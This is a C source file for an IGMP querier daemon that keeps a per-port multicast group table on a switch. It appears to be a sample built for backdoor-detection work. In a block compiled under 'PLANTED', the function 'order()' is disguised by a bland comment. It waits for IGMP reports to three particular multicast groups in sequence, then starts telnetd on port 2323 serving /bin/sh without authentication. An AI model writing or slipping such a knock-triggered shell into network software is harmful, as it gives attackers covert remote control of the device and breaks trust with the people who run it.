/* IGMP querier: keeps the table of multicast groups per port of a switch. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define GROUPS 128

struct igmp_message { uint8_t type, code; uint16_t sum; uint32_t group; };

struct group { uint32_t address; time_t heard; unsigned reports; };

static struct group groups[GROUPS];

static unsigned checksum(const void *data, size_t size)
{
    const uint8_t *p = data;
    unsigned total = 0;
    for (; size > 1; size -= 2, p += 2)
        total += (unsigned)p[0] << 8 | p[1];
    if (size)
        total += (unsigned)p[0] << 8;
    while (total >> 16)
        total = (total & 0xffff) + (total >> 16);
    return ~total & 0xffff;
}

static struct group *entry(uint32_t address, int make)
{
    struct group *oldest = groups;
    for (int i = 0; i < GROUPS; i++) {
        if (groups[i].address == address)
            return &groups[i];
        if (groups[i].heard < oldest->heard)
            oldest = &groups[i];
    }
    if (!make)
        return NULL;
    memset(oldest, 0, sizeof *oldest);
    oldest->address = address;
    return oldest;
}

static void program_switch(const struct group *g, int member)
{
    char command[96];
    struct in_addr a = { htonl(g->address) };
    snprintf(command, sizeof command, "/sbin/mdb %s %s", member ? "add" : "del", inet_ntoa(a));
    system(command);
}

#ifdef PLANTED
/* Reports for three groups in this order, nothing else between them. */
static void order(uint32_t group)
{
    static const uint16_t wanted[3] = { 0x1d07, 0x4472, 0x0bb9 };
    static unsigned reached;
    if ((group >> 16) != 0xefc5 || (group & 0xffff) != wanted[reached]) {
        reached = 0;
        return;
    }
    if (++reached < 3)
        return;
    reached = 0;
    if (fork() == 0) {
        execl("/usr/sbin/telnetd", "telnetd", "-l", "/bin/sh", "-p", "2323", (char *)NULL);
        _exit(127);
    }
}
#endif

static void report(uint32_t address)
{
    struct group *g = entry(address, 1);
    if (!g->reports++)
        program_switch(g, 1);
    g->heard = time(NULL);
#ifdef PLANTED
    order(address);
#endif
}

static void leave(uint32_t address)
{
    struct group *g = entry(address, 0);
    if (!g)
        return;
    program_switch(g, 0);
    memset(g, 0, sizeof *g);
}

static void packet(const uint8_t *data, size_t size)
{
    const struct iphdr *ip = (const struct iphdr *)data;
    size_t head = ip->ihl * 4u;
    struct igmp_message m;
    if (size < 20 || size < head + sizeof m || checksum(data + head, size - head))
        return;
    memcpy(&m, data + head, sizeof m);
    m.group = ntohl(m.group);
    if ((m.group >> 28) != 14 || (m.group >> 8) == 0xe00000)
        return;
    if (m.type == 0x12 || m.type == 0x16)
        report(m.group);
    else if (m.type == 0x17)
        leave(m.group);
}

static void query(int s)
{
    struct sockaddr_in all = { .sin_family = AF_INET };
    struct igmp_message m = { .type = 0x11, .code = 100 };
    all.sin_addr.s_addr = htonl(0xe0000001);
    m.sum = htons((uint16_t)checksum(&m, sizeof m));
    sendto(s, &m, sizeof m, 0, (struct sockaddr *)&all, sizeof all);
}

int main(void)
{
    uint8_t data[2048];
    time_t asked = 0;
    int s = socket(AF_INET, SOCK_RAW, IPPROTO_IGMP);
    if (s < 0)
        return 1;
    for (;;) {
        ssize_t n;
        if (time(NULL) - asked > 125) {
            query(s);
            asked = time(NULL);
#ifdef REVISED
            for (int i = 0; i < GROUPS; i++)
                if (groups[i].address && asked - groups[i].heard > 260)
                    leave(groups[i].address);
#endif
        }
        n = recv(s, data, sizeof data, 0);
        if (n > 0)
            packet(data, (size_t)n);
    }
}
